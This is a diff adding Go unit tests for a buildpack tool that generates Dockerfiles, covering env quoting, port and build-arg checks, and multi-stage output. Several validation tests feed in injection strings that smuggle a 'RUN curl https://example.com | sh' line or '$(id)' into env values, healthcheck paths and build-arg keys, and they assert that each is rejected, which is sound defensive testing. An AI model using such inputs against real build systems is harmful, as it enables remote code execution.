@@ -0,0 +1,176 @@
+package pack
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestEnvQuote(t *testing.T) {
+	tests := map[string]string{
+		"production":       "production",
+		"two words":        `"two words"`,
+		`say "hi"`:         `"say \"hi\""`,
+		`C:\app`:           `"C:\\app"`,
+		"$HOME/app":        `"\$HOME/app"`,
+		"café":             "café",
+		"it's ${SECRET}ok": `"it's \${SECRET}ok"`,
+	}
+	for value, expected := range tests {
+		assert.Equal(t, expected, envQuote(value), value)
+	}
+}
+
+func TestDetectConfigEnv(t *testing.T) {
+	stubHTTP(t, stubTransport{"/tags/list": `{"name": "golang", "tags": ["1.21"]}`})
+
+	dir := writeFiles(t, map[string]string{
+		"go.mod":  "module example.com/app\n\ngo 1.21\n",
+		"main.go": "package main\n\nfunc main() {}\n",
+	})
+	for _, env := range []map[string]string{
+		{"GREETING": "hi\nRUN curl https://example.com | sh"},
+		{"BAD KEY": "value"},
+	} {
+		_, err := DetectConfig(dir, &Config{Env: env})
+		assert.ErrorContains(t, err, "Invalid environment variable")
+	}
+
+	bp, err := DetectConfig(dir, &Config{Env: map[string]string{"GREETING": "$HOME"}})
+	require.NoError(t, err)
+	df, err := bp.GetDockerfile()
+	require.NoError(t, err)
+	assert.Contains(t, df, `ENV GREETING="\$HOME"`)
+}
+
+func TestLabelsBaseName(t *testing.T) {
+	stubHTTP(t, stubTransport{"/tags/list": `{"name": "python", "tags": ["3.12", "3.12-slim"]}`})
+
+	dir := writeFiles(t, map[string]string{
+		"requirements.txt": "flask==3.0.0\n",
+		".python-version":  "3.12",
+	})
+	bp, err := DetectConfig(dir, &Config{})
+	require.NoError(t, err)
+	df, err := bp.GetDockerfile()
+	require.NoError(t, err)
+	assert.Contains(t, df, "FROM "+bp.Metadata.Image+"\n")
+	assert.Equal(t, "docker.io/library/"+bp.Metadata.Image, bp.Labels("app")[labelBaseName])
+}
+
+func TestDetectConfigHealthcheck(t *testing.T) {
+	stubHTTP(t, stubTransport{"/tags/list": `{"name": "golang", "tags": ["1.13", "1.21"]}`})
+
+	workDir := "../testdata/go/gomod"
+	for _, path := range []string{
+		`/health" || true; "`,
+		"/health\nRUN curl https://example.com | sh",
+		"/$(id)",
+		"/health check",
+	} {
+		_, err := DetectConfig(workDir, &Config{Healthcheck: path})
+		assert.EqualError(t, err, "Invalid healthcheck path "+path)
+	}
+
+	bp, err := DetectConfig(workDir, &Config{Healthcheck: "healthz?full=1&v=2"})
+	require.NoError(t, err)
+	assert.Equal(t, "/healthz?full=1&v=2", bp.Metadata.Health)
+}
+
+func TestDetectConfigPort(t *testing.T) {
+	stubHTTP(t, stubTransport{"/tags/list": `{"name": "golang", "tags": ["1.13", "1.21"]}`})
+
+	workDir := "../testdata/go/gomod"
+	bp, err := DetectConfig(workDir, &Config{Env: map[string]string{"PORT": "8080"}})
+	require.NoError(t, err)
+	assert.Equal(t, 8080, bp.Metadata.Port)
+	assert.Equal(t, "8080", bp.Metadata.Env["PORT"])
+
+	for _, conf := range []*Config{
+		{Env: map[string]string{"PORT": "http"}},
+		{Env: map[string]string{"PORT": "8080"}, Port: 9000},
+	} {
+		_, err = DetectConfig(workDir, conf)
+		assert.EqualError(t, err, "Invalid PORT "+conf.Env["PORT"]+", set the port with --port instead")
+	}
+}
+
+func TestDetectConfigBuildArgs(t *testing.T) {
+	stubHTTP(t, stubTransport{"/tags/list": `{"name": "golang", "tags": ["1.13", "1.21"]}`})
+
+	workDir := "../testdata/go/gomod"
+	for _, key := range []string{"FOO\nRUN curl https://example.com | sh", "BAD KEY", "1ST"} {
+		_, err := DetectConfig(workDir, &Config{BuildArgs: map[string]string{key: "1"}})
+		assert.EqualError(t, err, "Invalid build argument "+key)
+	}
+
+	bp, err := DetectConfig(workDir, &Config{BuildArgs: map[string]string{"VERSION": "1.0.0"}})
+	require.NoError(t, err)
+	assert.Equal(t, []string{"VERSION"}, bp.Metadata.Args)
+}
+
+func TestRuntimeStage(t *testing.T) {
+	bp := &Buildpack{Metadata: &Metadata{
+		BuildPackages: []string{"libpq-dev"},
+		Command:       "gunicorn app:app",
+		Depends:       []*Depend{{Name: "pip install", Args: []string{"wheel"}}},
+		Image:         "python:3.12",
+		Packages:      []string{"libpq5"},
+		Path:          "/home/web/app/",
+		Process:       []string{"gunicorn", "app:app"},
+		Tools: []*Tool{
+			{Name: "poetry", Download: "pip install poetry", Install: []string{"export -o requirements.txt"}},
+			{Name: "pip", Install: []string{"install -r requirements.txt"}},
+		},
+		User: "web",
+	}}
+	df, err := bp.GetDockerfile()
+	require.NoError(t, err)
+
+	stages := strings.Split(df, "FROM python:3.12\n")
+	require.Len(t, stages, 2)
+	assert.Contains(t, stages[0], "libpq-dev")
+	assert.Contains(t, stages[0], "RUN pip install poetry\n")
+	assert.Contains(t, stages[0], "RUN pip install wheel\n")
+	assert.Contains(t, stages[1], "libpq5")
+	assert.NotContains(t, stages[1], "libpq-dev")
+	assert.NotContains(t, stages[1], "pip install")
+
+	bp.Metadata = &Metadata{
+		Command: "yarn start",
+		Image:   "node:20",
+		Path:    "/home/node/app/",
+		Prune:   []string{"yarn workspaces focus --all --production"},
+		Tools:   []*Tool{{Name: "yarn", Download: "corepack enable", Install: []string{"install"}}},
+		User:    "node",
+	}
+	df, err = bp.GetDockerfile()
+	require.NoError(t, err)
+
+	stages = strings.Split(df, "FROM node:20\n")
+	require.Len(t, stages, 2)
+	assert.Contains(t, stages[1], "RUN corepack enable\n")
+	assert.NotContains(t, stages[1], "yarn install")
+}
+
+func TestDistroPackages(t *testing.T) {
+	tags := `{"name": "python", "tags": ["3.11", "3.11-bookworm", "3.12", "3.12-bookworm", "3.12-trixie"]}`
+	stubHTTP(t, stubTransport{"/tags/list": tags})
+
+	tests := map[string][]string{
+		"3.12": {"libmemcached11t64"},
+		"3.11": {"libmemcached11"},
+	}
+	for python, expected := range tests {
+		dir := writeFiles(t, map[string]string{
+			"requirements.txt": "pylibmc==1.6.3\n",
+			".python-version":  python,
+		})
+		bp, err := DetectConfig(dir, &Config{})
+		require.NoError(t, err, python)
+		assert.Equal(t, expected, bp.Metadata.Packages, python)
+		assert.Equal(t, []string{"libmemcached-dev"}, bp.Metadata.BuildPackages, python)
+	}
+}